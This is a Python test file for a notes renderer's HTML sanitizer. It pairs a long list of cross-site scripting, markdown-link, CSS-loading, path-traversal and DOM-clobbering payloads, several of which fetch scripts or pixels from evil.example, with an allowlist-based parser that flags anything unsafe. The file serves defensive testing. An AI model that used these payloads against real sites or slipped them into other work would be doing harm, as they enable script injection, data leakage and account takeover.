"""Notes that try to do something on a page, and what a page that lets nothing through looks like."""

from html.parser import HTMLParser

SCRIPT = "window.pwned=1;alert(1)"
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    f"<script\n>{SCRIPT}</script\n>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    f"<img src=x onerror='{SCRIPT}'>",
    f'<img src="x" onerror="{SCRIPT}" //',
    f"<img/src=`x`onerror={SCRIPT}>",
    f"<img src=x:x onerror&#61;{SCRIPT}>",
    f"<svg onload='{SCRIPT}'>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin='{SCRIPT}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{SCRIPT}'><text x=20 y=20>x</text></a></svg>",
    f"<svg><foreignObject><body onload='{SCRIPT}'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    f"<math><mi//xlink:href='data:x,<script>{SCRIPT}</script>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={SCRIPT}&gt;'>",
    f"<body onload='{SCRIPT}'>",
    f"<iframe src='javascript:{SCRIPT}'></iframe>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    f"<details open ontoggle='{SCRIPT}'>x</details>",
    f"<video><source onerror='{SCRIPT}'></video>",
    f"<audio src=x onerror='{SCRIPT}'></audio>",
    f"<input autofocus onfocus='{SCRIPT}'>",
    f"<select autofocus onfocus='{SCRIPT}'></select>",
    f"<textarea autofocus onfocus='{SCRIPT}'></textarea>",
    f"<marquee onstart='{SCRIPT}'>x</marquee>",
    f"<form action='javascript:{SCRIPT}'><button>x</button></form>",
    f"<button formaction='javascript:{SCRIPT}'>x</button>",
    f"<a href='javascript:{SCRIPT}'>x</a>",
    f"<a href=' javascript:{SCRIPT}'>x</a>",
    f"<a href='java&#09;script:{SCRIPT}'>x</a>",
    f"<a href='&#106;avascript:{SCRIPT}'>x</a>",
    f"<a href='JaVaScRiPt:{SCRIPT}'>x</a>",
    f"<a href='\x01javascript:{SCRIPT}'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https:evil.example' target=_blank rel=opener>x</a>",
    f"[x](javascript:{SCRIPT})",
    f"[x](<java\tscript:{SCRIPT}>)",
    f"[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{SCRIPT})",
    "[x](data:text/html,x)",
    f"<javascript:{SCRIPT}>",
    f"[x]: javascript:{SCRIPT}\n\n[x]",
    f'[x](https://example.org "\\" onmouseover={SCRIPT} \\"")',
    f'[x](https://example.org/"onmouseover="{SCRIPT}")',
    f"![x](x' onerror='{SCRIPT})",
    f"![x](javascript:{SCRIPT})",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](attachment:../../../v1/users/me)",
    "![x](attachment:a%2f..%2f..%2fv1)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<img src='attachment:a/../../../v1'>",
    "<img srcset='https://evil.example/x 2x' src='attachment:a'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={SCRIPT}>'></xmp>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f"<?xml <img src=x onerror={SCRIPT}> ?>",
    f"</article></main></body><img src=x onerror={SCRIPT}>",
    "<form id=h-location><input name=getElementById></form>",
    "<h2 id=status>x</h2><span id=note class=done>x</span>",
    "<span class='skip' role=alert aria-label='Sign in again'>x</span>",
    f'```"><img src=x onerror={SCRIPT}>\nx\n```',
    f'``` x" onclick={SCRIPT}\nx\n```',
    f"| <img src=x onerror={SCRIPT}> |\n|:-:|\n| [x](javascript:{SCRIPT}) |",
    f"[[<img src=x onerror={SCRIPT}>]]",
    f'https://example.org/"onmouseover={SCRIPT}',
    f"https://example.org/<script>{SCRIPT}</script>",
    f"- [ ] <img src=x onerror={SCRIPT}>",
    f"# <img src=x onerror={SCRIPT}>",
    "\ufeff\u202e<script>alert(1)</script>\u0000<img src=x onerror=alert(1)>",
]

_TAGS = frozenset(
    {"a", "abbr", "b", "br", "code", "del", "em", "i", "ins", "kbd", "mark", "s", "small", "span", "strong"}
    | {"sub", "sup", "u", "img", "blockquote", "details", "div", "dd", "dl", "dt", "figcaption", "figure"}
    | {"hr", "li", "ol", "p", "pre", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"}
    | {"h2", "h3", "h4", "h5", "h6"}
)
_NAMES = frozenset(
    {"href", "title", "src", "alt", "class", "role", "aria-label", "start", "open", "colspan", "rowspan"}
    | {"id", "rel"}
)
_CLASSES = {"open", "done", "task", "wide", "left", "center", "right", "notice", "plain"}


class Findings(HTMLParser):
    """Reads HTML and keeps everything in it that may not be there."""

    def __init__(self, html: str, images: str) -> None:
        super().__init__(convert_charrefs=True)
        self.images = images
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _NAMES or not self._is_harmless(name, value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.found.append("a link that trusts")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def _is_harmless(self, name: str, value: str) -> bool:
        checks = {
            "href": value.lower().startswith(("http://", "https://", "mailto:", "#h-")),
            "src": value.startswith(self.images) and "/" not in value.removeprefix(self.images),
            "id": value.startswith("h-"),
            "class": value in _CLASSES or value.startswith("language-"),
            "role": value == "img",
            "aria-label": value in {"Open: ", "Done: "},
        }
        return checks.get(name, True)
